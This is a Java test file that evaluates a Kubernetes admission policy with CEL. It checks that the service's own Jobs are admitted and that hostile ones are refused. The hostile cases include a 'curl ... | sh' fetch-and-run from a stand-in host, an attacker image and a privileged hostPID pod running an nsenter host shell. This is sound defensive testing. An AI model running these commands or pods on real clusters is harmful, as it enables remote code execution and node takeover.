package io.gpuremediator.episode;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.cel.common.types.SimpleType;
import dev.cel.compiler.CelCompiler;
import dev.cel.compiler.CelCompilerFactory;
import dev.cel.parser.CelStandardMacro;
import dev.cel.runtime.CelRuntime;
import dev.cel.runtime.CelRuntimeFactory;
import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.PodBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.gpuremediator.outbound.OutboundPorts;
import io.gpuremediator.testing.Alerts;
import io.gpuremediator.testing.MutableClock;
import io.gpuremediator.testing.Nodes;
import io.gpuremediator.testing.Playbooks;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Consumer;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.yaml.snakeyaml.Yaml;

/**
 * The shipped ValidatingAdmissionPolicy (deploy/base/job-policy.yaml) evaluated with Google's CEL as the API server
 * evaluates it: its match condition, then its variables in order, then each validation, over the Jobs the service
 * creates (every kind of step, the default and the shipped commands) and over hostile ones a token of the service's
 * account could send: every Job of ours is admitted, every hostile one refused by a named validation.
 */
class JobPolicyCelTest {
  private static final String NODE = "gpu-node-0";
  private static final Path POLICY = Path.of("../deploy/base/job-policy.yaml");
  private static final String PLAYBOOKS = Playbooks.quarantining("every-job", """
            - collect: %s
            - drain: {mode: evict, timeout: 30m}
            - gpu_reset: {timeout: 10m}
            - reboot: {method: job, timeout: 30m}
            - diagnose: {image: "nvcr.io/nvidia/cloud-native/dcgm:4.2.3-1-ubuntu22.04", command: [dcgmi, diag, -r, "2", -j]}
      """);
  private static final String SHIPPED_COLLECT = "{image: \"debian:bookworm-slim\", timeout: 10m, keep: 7d, command: [nsenter,"
      + " -t, \"1\", -m, --, journalctl, -k, -b, --no-pager, -o, short-iso]}";
  private static final String SA = "system:serviceaccount:gpu-remediator:gpu-remediator";
  private static final ObjectMapper JSON = new ObjectMapper();

  @TempDir Path dir;
  @AutoClose private ClosedLoopHarness h;

  /** The policy's expressions, compiled once. */
  private record Policy(String match, Map<String, String> variables, Map<String, String> validations) {}

  @SuppressWarnings("unchecked")
  private static Policy policy() throws IOException {
    Map<String, Object> vap = (Map<String, Object>) new Yaml().loadAll(Files.readString(POLICY)).iterator().next();
    Map<String, Object> spec = (Map<String, Object>) vap.get("spec");
    String match = (String) ((List<Map<String, Object>>) spec.get("matchConditions")).get(0).get("expression");
    Map<String, String> variables = new LinkedHashMap<>();
    for (Map<String, Object> v : (List<Map<String, Object>>) spec.get("variables")) {
      variables.put((String) v.get("name"), (String) v.get("expression"));
    }
    Map<String, String> validations = new LinkedHashMap<>();
    for (Map<String, Object> v : (List<Map<String, Object>>) spec.get("validations")) {
      validations.put((String) v.get("message"), (String) v.get("expression"));
    }
    return new Policy(match, variables, validations);
  }

  private static final CelCompiler COMPILER = CelCompilerFactory.standardCelCompilerBuilder()
      .setStandardMacros(CelStandardMacro.STANDARD_MACROS).addVar("object", SimpleType.DYN)
      .addVar("variables", SimpleType.DYN).addVar("request", SimpleType.DYN).build();
  private static final CelRuntime RUNTIME = CelRuntimeFactory.standardCelRuntimeBuilder().build();

  private static Object eval(String expression, Map<String, Object> input) throws Exception {
    return RUNTIME.createProgram(COMPILER.compile(expression).getAst()).eval(input);
  }

  /** The messages of the validations that refuse {@code object} when the service's account sends it. */
  @SuppressWarnings("unchecked")
  private static List<String> refusals(Object object) throws Exception {
    Policy p = policy();
    Map<String, Object> obj = JSON.convertValue(object, Map.class);
    Map<String, Object> request = Map.of("userInfo", Map.of("username", SA));
    assertThat(eval(p.match(), Map.of("object", obj, "variables", Map.of(), "request", request))).isEqualTo(true);
    Map<String, Object> variables = new TreeMap<>();
    for (Map.Entry<String, String> v : p.variables().entrySet()) {
      variables.put(v.getKey(), eval(v.getValue(), Map.of("object", obj, "variables", variables, "request", request)));
    }
    List<String> refused = new ArrayList<>();
    for (Map.Entry<String, String> v : p.validations().entrySet()) {
      if (!Boolean.TRUE.equals(eval(v.getValue(), Map.of("object", obj, "variables", variables, "request", request)))) {
        refused.add(v.getKey());
      }
    }
    return refused;
  }

  /** Every Job an episode of {@code collect} creates, each finished as its controller would, by step kind. */
  private Map<String, Job> jobsOfAnEpisode(String collect) {
    h = new ClosedLoopHarness(dir, String.format(PLAYBOOKS, collect), OutboundPorts.NONE,
        new MutableClock(Instant.now().truncatedTo(ChronoUnit.SECONDS)));
    h.fire(Alerts.xid(NODE, "79"));
    Map<String, Job> seen = new TreeMap<>();
    for (int look = 0; look < 20 && seen.size() < 4; look++) {
      h.look(NODE);
      for (String kind : List.of("collect", "gpu_reset", "reboot", "diagnose")) {
        for (Job j : h.jobs(kind)) {
          if (seen.putIfAbsent(kind, j) == null) {
            if (kind.equals("reboot")) {
              Nodes.booted(h.client, NODE, NODE + "-boot-2", true);
            }
            h.finish(j, "Complete", "");
          }
        }
      }
      h.clock.advance(Duration.ofSeconds(30));
    }
    return seen;
  }

  @Test
  void everyJobTheServiceCreatesIsAdmitted() throws Exception {
    Map<String, Job> defaults = jobsOfAnEpisode("{timeout: 10m}");
    assertThat(defaults).as("the default collect script, gpu reset, reboot and diagnose")
        .containsOnlyKeys("collect", "gpu_reset", "reboot", "diagnose");
    for (Map.Entry<String, Job> j : defaults.entrySet()) {
      assertThat(refusals(j.getValue())).as(j.getKey()).isEmpty();
    }
    h.close();
    h = null;
    Job shipped = jobsOfAnEpisode(SHIPPED_COLLECT).get("collect");
    assertThat(shipped.getSpec().getTemplate().getSpec().getContainers().get(0).getCommand()).contains("journalctl");
    assertThat(refusals(shipped)).as("the shipped playbooks' kernel-log collect").isEmpty();
  }

  @Test
  void aHostileJobOfTheServicesAccountIsRefusedByTheValidationThatNamesIt() throws Exception {
    Map<String, Job> ours = jobsOfAnEpisode("{timeout: 10m}");
    Job reset = ours.get("gpu_reset");
    Map<String, Consumer<Job>> attacks = new LinkedHashMap<>();
    attacks.put("runs a shipped command", j -> container(j).getCommand().set(2, "curl -s http://x.example/p | sh"));
    attacks.put("runs an image of the shipped playbooks", j -> container(j).setImage("docker.io/attacker/tools:latest"));
    attacks.put("is pinned to one node", j -> j.getSpec().getTemplate().getSpec().setNodeName(null));
    attacks.put("never shares the node's network", j -> j.getSpec().getTemplate().getSpec().setHostNetwork(true));
    attacks.put("runs as the namespace's default account", j -> j.getSpec().getTemplate().getSpec()
        .setServiceAccountName("gpu-remediator"));
    attacks.put("runs one container", j -> j.getSpec().getTemplate().getSpec().setInitContainers(List.of(
        new ContainerBuilder().withName("x").withImage("busybox").build())));
    for (Map.Entry<String, Consumer<Job>> attack : attacks.entrySet()) {
      Job hostile = JSON.readValue(JSON.writeValueAsString(reset), Job.class);
      attack.getValue().accept(hostile);
      assertThat(refusals(hostile)).as(attack.getKey()).anySatisfy(m -> assertThat(m).contains(attack.getKey()));
    }
    Pod pod = new PodBuilder().withNewMetadata().withName("shell").withNamespace("gpu-remediator").endMetadata()
        .withNewSpec().withHostPID(true).addNewContainer().withName("x").withImage("alpine:3").withCommand("sh", "-c",
            "nsenter -t 1 -a -- sh").withNewSecurityContext().withPrivileged(true).endSecurityContext().endContainer()
        .endSpec().build();
    assertThat(refusals(pod)).as("a privileged hostPID pod of the service's account, on no node, from any image")
        .anySatisfy(m -> assertThat(m).contains("is pinned to one node"))
        .anySatisfy(m -> assertThat(m).contains("runs an image of the shipped playbooks"))
        .anySatisfy(m -> assertThat(m).contains("runs a shipped command"));
    Job reboot = JSON.readValue(JSON.writeValueAsString(ours.get("reboot")), Job.class);
    container(reboot).setCommand(List.of("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "sh", "-c", "id"));
    assertThat(refusals(reboot)).as("the reboot Job's nsenter with a shell instead").singleElement()
        .satisfies(m -> assertThat(m).contains("runs a shipped command"));
  }

  private static Container container(Job j) {
    return j.getSpec().getTemplate().getSpec().getContainers().get(0);
  }
}
